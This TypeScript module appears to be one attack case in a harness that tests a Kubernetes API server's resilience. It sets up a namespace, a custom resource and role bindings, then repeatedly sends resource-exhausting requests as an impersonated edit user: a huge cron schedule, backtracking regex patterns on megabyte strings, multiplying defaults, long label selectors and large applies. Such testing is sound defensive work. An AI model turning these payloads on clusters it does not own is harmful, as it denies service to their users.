import type { Attack, AttackTarget } from './attack.ts';
import { bearer, send, session } from './wire.ts';

const SECONDS = 8;
const NAMESPACE = 'heavy-work';
const USER = 'heavy-editor';

/** An ordinary user with the role `edit` in one namespace, acted as by the administrator. */
function asEditor(target: AttackTarget): Record<string, string> {
  return { ...bearer(target), 'impersonate-user': USER };
}

const BATCH = `/apis/batch/v1/namespaces/${NAMESPACE}/cronjobs`;
const MAPS = `/api/v1/namespaces/${NAMESPACE}/configmaps`;
const WORDS = `/apis/heavy.attack.example/v1/namespaces/${NAMESPACE}/words`;

function requestsTo(target: AttackTarget): readonly (readonly [Record<string, string>, string?])[] {
  const post = (path: string): Record<string, string> => ({
    ...asEditor(target),
    'content-type': 'application/json',
    ':method': 'POST',
    ':path': path,
  });
  const minutes = Array.from({ length: 300_000 }, (_unused, index) => index % 60).join(',');
  const spec = { restartPolicy: 'Never', containers: [{ name: 'c', image: 'i' }] };
  const cronJob = { schedule: `${minutes} * * * *`, suspend: true, jobTemplate: { spec: { template: { spec } } } };
  const word = (fields: object): string =>
    JSON.stringify({
      apiVersion: 'heavy.attack.example/v1',
      kind: 'Word',
      metadata: { generateName: 'a-' },
      spec: fields,
    });
  const terms = Array.from({ length: 3_000 }, (_unused, index) => `l${index} notin (a,b)`).join(',');
  const fields = Object.fromEntries(Array.from({ length: 7_200 }, (_unused, index) => [`f${index}`, 'v']));
  return [
    [post(`${BATCH}?dryRun=All`), JSON.stringify({ metadata: { generateName: 'a-' }, spec: cronJob })],
    [post(`${WORDS}?dryRun=All`), word({ plain: 'x'.repeat(1_000_000) })],
    [post(`${WORDS}?dryRun=All`), word({ counted: `${'x'.repeat(100_000)}y` })],
    [post(`${WORDS}?dryRun=All`), word({ items: Array.from({ length: 100_000 }, () => ({})) })],
    [{ ...asEditor(target), ':path': `${MAPS}?labelSelector=${encodeURIComponent(terms)}` }],
    [
      {
        ...asEditor(target),
        'content-type': 'application/apply-patch+yaml',
        ':method': 'PATCH',
        ':path': `${MAPS}/managed?fieldManager=m&force=true`,
      },
      JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'managed' }, data: fields }),
    ],
  ];
}

/** The kind, the role and the namespace of the user. */
async function prepare(target: AttackTarget): Promise<void> {
  const over = session(target);
  const make = async (path: string, object: object): Promise<void> => {
    const headers = { ...bearer(target), 'content-type': 'application/json', ':method': 'POST', ':path': path };
    await send(over, headers, JSON.stringify(object));
  };
  const large = Object.fromEntries(Array.from({ length: 60 }, (_unused, index) => [`key${index}`, 'v']));
  const properties = {
    plain: { type: 'string', pattern: '^[a-z]+$' },
    counted: { type: 'string', pattern: '(x{1,500}){1,2}$' },
    items: {
      type: 'array',
      items: {
        type: 'object',
        properties: { a: { type: 'object', additionalProperties: { type: 'string' }, default: large } },
      },
    },
  };
  const openAPIV3Schema = { type: 'object', properties: { spec: { type: 'object', properties } } };
  await make('/api/v1/namespaces', { metadata: { name: NAMESPACE } });
  await make('/apis/apiextensions.k8s.io/v1/customresourcedefinitions', {
    metadata: { name: 'words.heavy.attack.example' },
    spec: {
      group: 'heavy.attack.example',
      scope: 'Namespaced',
      names: { plural: 'words', singular: 'word', kind: 'Word' },
      versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema } }],
    },
  });
  await make('/apis/rbac.authorization.k8s.io/v1/clusterroles', {
    metadata: { name: 'words-edit', labels: { 'rbac.authorization.k8s.io/aggregate-to-edit': 'true' } },
    rules: [{ apiGroups: ['heavy.attack.example'], resources: ['words'], verbs: ['*'] }],
  });
  for (const role of ['edit', 'words-edit']) {
    await make(`/apis/rbac.authorization.k8s.io/v1/namespaces/${NAMESPACE}/rolebindings`, {
      metadata: { name: role },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
      subjects: [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: USER }],
    });
  }
  over.destroy();
}

export const attack: Attack = {
  name: 'heavy-work',
  what: 'a user with the role edit: a schedule of 300,000 values, patterns on 1 MB, defaults that grow, 3,000 terms, 7,200 applied fields',
  prepare,
  async run(target, signal) {
    const over = session(target);
    const requests = requestsTo(target);
    const end = Date.now() + SECONDS * 1_000;
    const codes = new Map<number, number>();
    for (let index = 0; Date.now() < end && !signal.aborted; index++) {
      const [headers, body] = requests[index % requests.length] as (typeof requests)[number];
      const code = await send(over, headers, body);
      codes.set(code, (codes.get(code) ?? 0) + 1);
    }
    over.destroy();
    return [...codes].map(([code, count]) => `${count} × ${code}`).join(', ');
  },
};
